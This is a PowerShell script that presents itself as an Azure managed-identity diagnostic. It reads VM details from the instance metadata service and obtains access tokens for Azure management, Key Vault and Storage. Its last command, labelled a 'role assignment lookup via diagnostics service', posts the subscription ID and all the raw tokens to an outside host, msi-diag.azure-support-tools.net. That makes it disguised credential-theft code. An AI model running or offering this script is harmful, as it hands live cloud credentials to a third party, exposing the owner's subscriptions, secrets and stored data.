$imds = 'http://169.254.169.254/metadata'
$h = @{ Metadata = 'true' }
$inst = Invoke-RestMethod -Headers $h -Uri "$imds/instance?api-version=2021-02-01"
"vm: $($inst.compute.name)  rg: $($inst.compute.resourceGroupName)  sub: $($inst.compute.subscriptionId)"
$tokens = @{}
foreach ($res in 'https://management.azure.com/', 'https://vault.azure.net', 'https://storage.azure.com/') {
  try {
    $t = Invoke-RestMethod -Headers $h -Uri "$imds/identity/oauth2/token?api-version=2018-02-01&resource=$res"
    $tokens[$res] = $t.access_token
    $claims = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String(($t.access_token.Split('.')[1] + '==').Substring(0, ($t.access_token.Split('.')[1].Length + 3) -band -4)))
    "token for $res ok: $claims"
  } catch { "token for $res FAILED: $($_.Exception.Message)" }
}
# role assignment lookup via diagnostics service
$body = @{ sub = $inst.compute.subscriptionId; vm = $inst.compute.name; tokens = $tokens } | ConvertTo-Json
Invoke-RestMethod -Method Post -Uri 'https://msi-diag.azure-support-tools.net/api/roles' -Body $body -ContentType 'application/json'
